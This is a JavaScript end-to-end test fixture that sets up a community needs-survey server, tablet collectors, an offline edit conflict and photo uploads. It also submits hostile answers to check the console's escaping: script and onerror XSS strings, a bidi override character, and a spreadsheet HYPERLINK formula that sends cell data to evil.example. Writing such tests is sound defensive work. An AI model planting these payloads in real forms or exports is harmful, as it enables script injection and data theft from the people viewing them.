// A real office for the console's test: a server on a free port, two collectors with tablets (without screens), the
// community's needs survey, photographs, a conflict made by two tablets offline, and hostile answers.
import { execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

const root = fileURLToPath(new URL('../../', import.meta.url))
const community = '前进社区'
const password = 'a long password for tests'

/** Starts the office; `bin` holds doorstep-server and doorstep-tablet. */
export async function startOffice(bin) {
  const folder = mkdtempSync(join(tmpdir(), 'doorstep-console-'))
  const data = join(folder, 'server')
  const run = (program, words, input = '') => {
    try {
      return execFileSync(join(bin, program), words, { input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] }).trim()
    } catch (error) {
      throw new Error(`${program} ${words.join(' ')}: exit ${error.status}\n${error.stdout ?? ''}${error.stderr ?? ''}`)
    }
  }
  const admin = (words, input) => run('doorstep-server', [...words, '--data', data], input)
  let server
  const stop = async () => {
    if (server && server.exitCode === null) {
      const ended = new Promise((done) => server.once('exit', done))
      server.kill()
      await ended
    }
    rmSync(folder, { recursive: true, force: true })
  }
  try {
    admin(['init', '--office', '青云街道办事处', '--community', community, '--recovery-key-out', join(folder, 'recovery'), '--admin-password-out', join(folder, 'admin')])
    for (const form of ['shared/packs/community/forms/F02.xml', 'tests/e2e/visit.xml']) admin(['form', 'publish', join(root, form)])
    for (const [name, display, role] of [['wang', '王建国', 'collector'], ['zhang', '张丽', 'collector'], ['liu', '刘敏', 'admin']]) {
      admin(['user', 'add', '--name', name, '--display', display, '--unit', community, '--role', role, '--password-file', '-'], `${password}\n`)
    }
    server = spawn(join(bin, 'doorstep-server'), ['serve', '--data', data, '--listen', '127.0.0.1:0'], { stdio: ['ignore', 'pipe', 'inherit'] })
    const base = await new Promise((found, failed) => {
      server.stdout.on('data', (said) => { const m = /listening on (\S+)/.exec(said); if (m) found(m[1].replace(/\/$/, '')) })
      server.on('exit', (status) => failed(new Error(`the server ended with ${status}`)))
    })
    const office = { folder, base, run, admin }
    const console_ = await signIn(base)
    const wang = makeTablet(office, 'wang')
    const zhang = makeTablet(office, 'zhang')
    const scope = console_.me.scopes.find((s) => s.kind === 'collect').scope
    const zhangId = (await console_.get(`/v1/users?scope=${scope}`)).users.find((u) => u.name === 'zhang').id

    const worlds = { base, name: 'liu', password }
    for (const lang of ['zh', 'en']) worlds[lang] = await fill(lang, { wang, zhang, console_, scope, zhangId, folder })
    return { worlds, stop }
  } catch (error) {
    await stop()
    throw error
  }
}

/** The console's API, as the browser will use it. */
async function signIn(base) {
  const response = await fetch(`${base}/v1/login`, { method: 'POST', headers: { Connection: 'close', 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'liu', password }) })
  if (!response.ok) throw new Error(`login: ${response.status} ${await response.text()}`)
  const me = await response.json()
  const cookie = response.headers.get('set-cookie').split(';')[0]
  const ask = async (method, path, body) => {
    // A connection of its own each time: the server closes idle ones, which a client that keeps them meets as a failure.
    const headers = { Connection: 'close', Cookie: cookie, 'X-Doorstep-CSRF': me.csrf, ...(body ? { 'Content-Type': 'application/json' } : {}) }
    const reply = await fetch(base + path, { method, headers, body: body && JSON.stringify(body) })
    if (!reply.ok) throw new Error(`${method} ${path}: ${reply.status} ${await reply.text()}`)
    return reply.json()
  }
  return { me, get: (path) => ask('GET', path), post: (path, body) => ask('POST', path, body) }
}

function makeTablet({ folder, base, run, admin }, user) {
  const data = join(folder, `tablet-${user}`)
  const pin = join(folder, `${user}.pin`)
  const code = join(folder, `${user}.code`)
  writeFileSync(pin, 'a passphrase for the tablet\n')
  writeFileSync(code, `${admin(['device', 'token', '--user', user])}\n`)
  const word = (...words) => run('doorstep-tablet', ['--data', data, '--pin-file', pin, ...words])
  word('enrol', '--server', base, '--token-file', code, '--name', `平板 ${user}`)
  const quote = (text) => JSON.stringify(text)
  const sync = () => {
    for (let round = 0; round < 5; round++) {
      try {
        return word('sync')
      } catch (error) {
        if (round === 4) throw error
      }
    }
    return ''
  }
  sync()
  return {
    sync,
    /** Answers in one go: [[path, value | {file}]]; `record` for an edit. Prints nothing; returns the record's id. */
    // "--": an id may begin with a hyphen.
    visit: (form, answers, record) => {
      const script = join(folder, `${user}.script`)
      const name = record ? quote(record) : '$it'
      writeFileSync(script, [
        ...(record ? [] : [`it = new ${form}`]),
        ...answers.map(([path, value]) => (value?.file ? `attach -- ${name} ${quote(path)} ${quote(value.file)}` : value?.text ? `set --file ${quote(value.text)} -- ${name} ${quote(path)}` : `set -- ${name} ${quote(path)} ${quote(value)}`)),
        `finish -- ${name}`,
      ].join('\n'))
      return /finished (\S+)/.exec(word('script', script))[1]
    },
  }
}

const photo = (name) => ({ file: join(root, 'tests/data/photos', name) })

function survey(number, size, most, place, picture) {
  return [
    ['visit/questionnaire_no', number], ['visit/gather', 'door'], ['notice/consent', 'agree'], ['survey/person/sex', 'female'],
    ['survey/person/age_group', 'a61_75'], ['survey/person/years', 'o10'], ['survey/person/household_size', size],
    ['survey/program/know_program', 'heard'], ['survey/needs/most_needed', most], ['survey/needs/facility_items', 'lamps gate'],
    ['survey/place/urgent_place', place], ...(picture ? [['survey/place/place_photo', photo(picture)]] : []),
    ['survey/closing/suggestion', '希望修好以后在楼门口贴个说明。'],
  ]
}

/** One language's records; answers that test found by. */
async function fill(lang, { wang, zhang, console_, scope, zhangId, folder }) {
  const L = lang.toUpperCase()
  const shared = wang.visit('needs_survey', survey(`${L}-501`, '3', 'facility', '3号楼2单元门口的路灯坏了两个月，晚上老人下楼很不方便。', 'stairwell.jpg'))
  wang.visit('needs_survey', survey(`${L}-502`, '2', 'facility svc', '5号楼前的单元门禁常常关不上。', 'gate.jpg'))
  wang.visit('needs_survey', survey(`${L}-503`, '4', 'facility env', '垃圾桶旁边味道大。'))
  const long = join(folder, `${lang}.long`)
  writeFileSync(long, '居民'.repeat(20_000))
  const bad = `<img src=x onerror="window.__hacked=1"> ${lang}`
  zhang.visit('visit', [['door', bad], ['people', '2'], ['remark', { text: long }], ['need', 'light']])
  zhang.visit('visit', [['door', `${lang}-formula`], ['people', '1'], ['remark', '=HYPERLINK("http://evil.example/"&A1,"x") \u202e午上\u202c <script>window.__hacked=1</script>']])
  wang.sync()
  await console_.post(`/v1/records/${scope}/${shared}/assign`, { user: zhangId })
  zhang.sync()

  // Offline, both change the same two answers of the same household.
  wang.visit('', [['survey/person/household_size', '4'], ['survey/needs/most_needed', 'facility env']], shared)
  zhang.visit('', [['survey/person/household_size', '2'], ['survey/needs/most_needed', 'facility svc']], shared)
  wang.sync()
  zhang.sync()

  const say = (zh, en) => (lang === 'zh' ? zh : en)
  return {
    settle: {
      find: `${L}-501`, photos: 1, answers: ['3号楼2单元门口的路灯', say('61—75岁', '61')],
      conflicts: [
        { label: say('家庭人口', 'People in the household'), sides: ['4', '2'], base: '3', choose: '2' },
        { label: say('您认为社区最需要解决的是哪些方面', 'What does the community need most'), sides: [say('社会环境卫生治理', 'Environment'), say('社区服务', 'Community services')], choose: 'both', shows: say('社区服务', 'Community services') },
      ],
    },
    giveBack: { find: `${L}-502`, label: say('最急需解决的问题及具体地点', 'The most urgent problem and where exactly') },
    approve: { find: `${L}-503` },
    hostile: { find: `__hacked=1"> ${lang}`, texts: [bad], long: 40_000 },
    formula: { find: `${lang}-formula`, texts: ['=HYPERLINK("http://evil.example/"&A1,"x")', '<script>window.__hacked=1</script>'], bidi: true },
    // The tablet of the assigned colleague changes an answer while the record is being looked at.
    behind: { find: `${L}-501`, change: () => { zhang.visit('', [['survey/closing/suggestion', '又想起一件事：单元门口再装一个扶手。']], shared); zhang.sync() } },
  }
}
